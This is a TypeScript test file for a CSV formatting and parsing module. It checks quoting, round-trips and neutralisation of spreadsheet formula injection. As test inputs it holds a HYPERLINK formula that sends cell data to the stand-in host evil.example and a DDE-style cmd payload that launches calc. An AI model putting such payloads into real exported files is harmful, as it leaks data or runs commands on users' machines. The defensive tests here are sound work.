import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { CsvSyntaxError, csvCell, formatCsv, parseCsv, readSpreadsheetCell } from './csv-text';

/** Rows of 1 to 4 cells, from characters that exercise quoting, formulas and line ends. */
const csvRows = fc.integer({ min: 1, max: 4 }).chain((width) =>
  fc.array(
    fc.array(
      fc.string({
        unit: fc.constantFrom('a', ',', '"', "'", '=', '+', '-', '@', '\t', '\n', '\r', ' ', 'é', '😀'),
      }),
      { minLength: width, maxLength: width },
    ),
    { minLength: 1, maxLength: 10 },
  ),
);
/** csv-parse reading what this module reads: rows of any width, CRLF, LF or a lone CR ending them. */
const csvParseOptions = { relax_column_count: true, record_delimiter: ['\r\n', '\n', '\r'] };
/** A row of one empty cell is an empty line, which CSV cannot tell from no row. */
const noEmptyLine = (rows: string[][]) => rows.every((row) => !(row.length === 1 && row[0] === ''));

describe('CSV text', () => {
  it('quotes commas, quotes, line breaks and edge spaces, and reads them back', () => {
    const rows = [
      ['Name', 'Note'],
      ['a,b', 'say "hi"'],
      ['multi\nline', 'crlf\r\nline'],
      [' padded ', ''],
    ];
    const text = formatCsv(rows);
    expect(text).toBe('Name,Note\r\n"a,b","say ""hi"""\r\n"multi\nline","crlf\r\nline"\r\n" padded ",\r\n');
    expect(parseCsv(text)).toEqual(rows);
  });

  it('reads LF line ends, a byte-order mark and a missing final line break', () => {
    expect(parseCsv('\uFEFFa,b\nc,d')).toEqual([
      ['a', 'b'],
      ['c', 'd'],
    ]);
  });

  it.each([
    ['an unclosed quote', 'a,"b\nc'],
    ['text after a closing quote', 'a,"b"c'],
    ['a quote inside an unquoted cell', 'a,b"c'],
  ])('refuses %s, naming the line', (_, text) => {
    expect(() => parseCsv(text)).toThrow(CsvSyntaxError);
  });

  it('reads back any rows it wrote', () => {
    fc.assert(
      fc.property(csvRows, (rows) => {
        fc.pre(noEmptyLine(rows));
        expect(parseCsv(formatCsv(rows)).map((row) => row.map(readSpreadsheetCell))).toEqual(rows);
      }),
    );
  });

  it('reads what csv-stringify writes, as csv-parse reads it', () => {
    fc.assert(
      fc.property(csvRows, (rows) => {
        fc.pre(noEmptyLine(rows));
        const text = stringify(rows, { record_delimiter: 'windows' });
        expect(parseCsv(text)).toEqual(parse(text, csvParseOptions));
      }),
    );
  });

  it('writes what csv-parse reads back, formulas given back by readSpreadsheetCell', () => {
    fc.assert(
      fc.property(csvRows, (rows) => {
        fc.pre(noEmptyLine(rows));
        const read = parse(formatCsv(rows), csvParseOptions) as string[][];
        expect(read.map((row) => row.map(readSpreadsheetCell))).toEqual(rows);
      }),
    );
  });
});

describe('CSV cells a spreadsheet would run as formulas', () => {
  it.each([
    [
      '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      '"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"',
    ],
    ['+1', `"'+1"`],
    ['-2', `"'-2"`],
    ["@SUM(1+1)*cmd|' /C calc'!A0", `"'@SUM(1+1)*cmd|' /C calc'!A0"`],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
    ["'=already", `"''=already"`],
    ['a=1', 'a=1'],
    ['plain', 'plain'],
    ["it's", "it's"],
  ])('writes %j as %j and reads it back', (value, written) => {
    expect(csvCell(value)).toBe(written);
    expect(parseCsv(written).map((row) => row.map(readSpreadsheetCell))).toEqual([[value]]);
  });

  it('starts no written cell with a formula character, so a spreadsheet shows text', () => {
    fc.assert(
      fc.property(csvRows, (rows) => {
        fc.pre(noEmptyLine(rows));
        for (const row of parse(formatCsv(rows), csvParseOptions) as string[][]) {
          for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
        }
      }),
    );
  });
});
